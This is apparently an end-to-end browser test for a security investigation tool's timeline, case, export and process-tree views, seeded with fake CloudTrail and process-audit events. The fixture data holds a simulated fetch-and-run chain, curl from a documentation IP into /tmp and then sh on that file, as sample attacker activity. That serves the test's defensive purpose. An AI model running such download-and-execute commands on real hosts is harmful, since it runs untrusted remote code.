import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { closeBrowser, cloudTrail, expectAccessible, openTab, Server, settled, shot } from './fixture';

const host = 'ip-10-0-4-99.eu-west-1.compute.internal';
let number = 0;

/** A process that started on the host. */
function start(pid: number, ppid: number, line: string, at: Date): Record<string, unknown> {
    return {
        _id: `00000000-0000-4000-9000-${String(++number).padStart(12, '0')}`,
        event_type: 'audit',
        event_time: at.getTime(),
        timestamp: at.getTime(),
        host_metadata: { hostname: host },
        type: 'start',
        syscall: 'execve',
        success: true,
        pid,
        ppid,
        user: 'root',
        exe: line.split(' ')[0],
        arguments: line,
        session: 91,
        tty: 'pts1',
    };
}

// From nothing in the address to a case that is exported: a value, its timeline, processes, graph, and what it acted with.
describe('investigate', () => {
    const server = new Server();
    beforeAll(async () => {
        await server.start();
        const ago = (seconds: number) => new Date(Date.now() - seconds * 1000);
        await server.send([
            cloudTrail({ eventName: 'DescribeRepositories' }, ago(300)),
            cloudTrail({ eventName: 'GetAuthorizationToken', sourceIPAddress: '203.0.113.50' }, ago(200)),
            cloudTrail({ eventName: 'BatchDeleteImage', requestParameters: { repositoryName: 'shop' } }, ago(100)),
            start(4100, 1, '/usr/bin/bash -l', ago(290)),
            start(4101, 4100, '/usr/bin/curl -s http://198.51.100.9/x', ago(280)),
            start(4102, 4101, '/usr/bin/sh /tmp/x', ago(270)),
        ]);
    });
    afterAll(async () => {
        await closeBrowser();
        await server.stop();
    });

    it('goes from a value over its timeline to a case, and gives the case away', async () => {
        const tab = await openTab(server);
        const { page } = tab;
        await page.goto('/investigate');
        await page.getByText('No cases yet').waitFor();
        await settled(page);
        await expectAccessible(page);
        await shot(page, 'investigate-start');

        // The form of the value tells its kind.
        await page.getByRole('textbox', { name: 'Value' }).fill('AKIAEXAMPLEALICE0001');
        await page.getByRole('button', { name: 'Kind Access key' }).waitFor();
        await page.getByRole('textbox', { name: 'Value' }).press('Enter');
        await page.waitForURL('**/investigate?field=access_key&value=AKIAEXAMPLEALICE0001&range=7d');
        const grid = page.getByRole('grid', { name: 'Timeline' });
        await grid.getByText('GetAuthorizationToken').waitFor();
        await settled(page);
        await expectAccessible(page);
        await shot(page, 'investigate-timeline');

        // A line opens its record, from which the address leads on.
        await grid.getByText('GetAuthorizationToken').click();
        await page.getByText('203.0.113.50').first().waitFor();
        expect(new URL(page.url()).searchParams.get('open')).toMatch(/^00000000-/);
        await expectAccessible(page);

        await grid.getByRole('button', { name: /Pin to case: alice called ecr:BatchDeleteImage/ }).click();
        await page.getByRole('textbox', { name: 'Name of the case' }).fill('Images "deleted" & tokens');
        await page.getByRole('textbox', { name: 'Why it matters' }).fill('Nobody deletes by hand');
        await expectAccessible(page);
        await page.getByRole('button', { name: 'Pin', exact: true }).click();
        await page.getByRole('link', { name: 'Images "deleted" & tokens' }).click();
        await page.waitForURL('**/investigations/*');
        await page.getByText('Nobody deletes by hand').waitFor();
        await page.getByRole('textbox', { name: 'Add a note' }).fill('Asked Alice: <b>not</b> her.');
        await page.getByRole('button', { name: 'Add note' }).click();
        await page.getByText('Asked Alice: <b>not</b> her.').waitFor();
        await page.getByRole('button', { name: /^Verdict/ }).click();
        await page.getByRole('option', { name: 'Malicious' }).click();
        await expect
            .poll(async () => (await tab.context.request.get('/api/v1/searches')).text())
            .toContain('"malicious"');
        await settled(page);
        await expectAccessible(page);
        await shot(page, 'investigate-case');

        await page.getByRole('button', { name: 'Export' }).click();
        const download = page.waitForEvent('download');
        await page.getByRole('menuitem', { name: 'Markdown file' }).click();
        const file = await download;
        expect(file.suggestedFilename()).toBe('Images-deleted-tokens.md');
        const text = readFileSync((await file.path())!, 'utf8');
        expect(text).toContain('BatchDeleteImage');
        expect(text).toContain('Verdict: Malicious');
        expect(text).toContain('Asked Alice: <b>not</b> her.');

        // What was taken away comes back.
        await page.getByRole('button', { name: /Remove from the case/ }).click();
        await page.getByText('Nothing pinned yet').waitFor();
        await page.getByRole('button', { name: 'Undo' }).click();
        await page.getByText('Nobody deletes by hand').waitFor();
        await tab.page.goto('/investigate');
        await page.getByRole('link', { name: 'Images "deleted" & tokens' }).waitFor();
        expect(tab.faults).toEqual([]);
        await tab.close();
    });

    it('shows what processes started on a host, and who touched what', async () => {
        const tab = await openTab(server, { width: 1024, theme: 'dark', language: 'pt-BR' });
        const { page } = tab;
        await page.goto(`/investigate?field=host&value=${host}&tab=tree`);
        const tree = page.getByRole('tree');
        await tree.getByText('/usr/bin/bash -l').waitFor();
        await tree.getByText('/usr/bin/curl -s http://198.51.100.9/x').waitFor();
        expect(await tree.getByText('/usr/bin/sh /tmp/x').count()).toBe(0);
        await tree
            .getByRole('button', { name: /curl.*4101/ })
            .first()
            .click();
        await tree.getByText('/usr/bin/sh /tmp/x').waitFor();
        await settled(page);
        await expectAccessible(page);
        await shot(page, 'investigate-tree-dark-pt');

        await page.goto('/investigate?field=identity&value=arn:aws:iam::111122223333:user/alice&tab=graph');
        await page.locator('.vg-graph-node').first().waitFor();
        await page.getByRole('link', { name: '203.0.113.50' }).waitFor();
        await page.getByRole('link', { name: 'shop', exact: true }).waitFor();
        await expectAccessible(page);
        await shot(page, 'investigate-graph-dark-pt');
        await page.getByRole('button', { name: 'Tabela' }).click();
        await page.getByRole('table').getByText('AKIAEXAMPLEALICE0001').first().waitFor();
        await expectAccessible(page);

        await page.getByRole('tab', { name: 'Identidade e sessão' }).click();
        await page.getByText('aws-cli/2.15.0').waitFor();
        await page.getByRole('link', { name: '3 eventos de aws-cli/2.15.0' }).click();
        await page.waitForURL('**/events?*');
        expect(new URL(page.url()).searchParams.get('filter')).toContain('userAgent = "aws-cli/2.15.0"');
        expect(tab.faults).toEqual([]);
        await tab.close();
    });
});
